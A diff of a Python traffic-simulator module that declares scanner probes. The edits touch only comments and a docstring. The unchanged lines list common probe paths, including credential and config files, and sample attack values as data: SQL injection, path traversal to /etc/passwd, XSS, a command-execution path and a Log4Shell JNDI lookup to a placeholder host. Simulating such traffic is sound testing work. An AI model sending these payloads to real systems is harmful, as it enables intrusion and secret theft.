@@ -1,4 +1,4 @@
-"""Scanners and attacks: what they ask for and what they write into parameters."""
+"""Scanners and attacks: paths, and values that they write into parameters."""
 
 from __future__ import annotations
 
@@ -8,8 +8,8 @@ from pipelines.simulator.vocabulary.operation import Operation, Parameter, make_
 from pipelines.simulator.vocabulary.values import Values
 from pipelines.simulator.vocabulary.web_conventions import Audience, declare_resource
 
-# Paths that any host meets within hours. Some look like APIs: that they are asked for does not make them
-# exist.
+# Paths that scanners request from any new host within hours. Some look like APIs; a request for one does not mean
+# that it exists.
 _PROBE_TEXT = """
     wp-login.php wp-admin/setup.php xmlrpc.php .env .env.bak api/.env .git/config .aws/credentials
     phpmyadmin/index.php pma admin/config.php cgi-bin/test.cgi actuator/env actuator/heapdump api/v1/users
@@ -21,7 +21,7 @@ _PROBE_TEXT = """
     api/v1/..%2f..%2fproc/self/environ ${jndi:ldap://x.example/a} shell?cmd=id _ignition/execute-solution
 """
 _PROBES = tuple(_PROBE_TEXT.split())
-# What attackers write into a parameter.
+# Values that attackers write into parameters.
 ATTACK_VALUES = (
     "' OR '1'='1", "1;DROP TABLE x--", "../../../../etc/passwd", "<script>alert(1)</script>",
     "${jndi:ldap://x.example/a}",
@@ -31,7 +31,10 @@ _AUDIENCE: Audience = (("scanner", 1.0),)
 
 
 def declare_scans(rng: Random, error_media: str) -> list[Operation]:
-    """Probes of a site that answers errors in `error_media` (JSON on many API hosts)."""
+    """Declares probes of a site whose errors have the media type `error_media`.
+
+    It is JSON on many API hosts.
+    """
     pool = Parameter("path", "path", Values("path", tuple(rng.sample(_PROBES, 25))))
     refused = [
         (0.7, 404, error_media, 400),
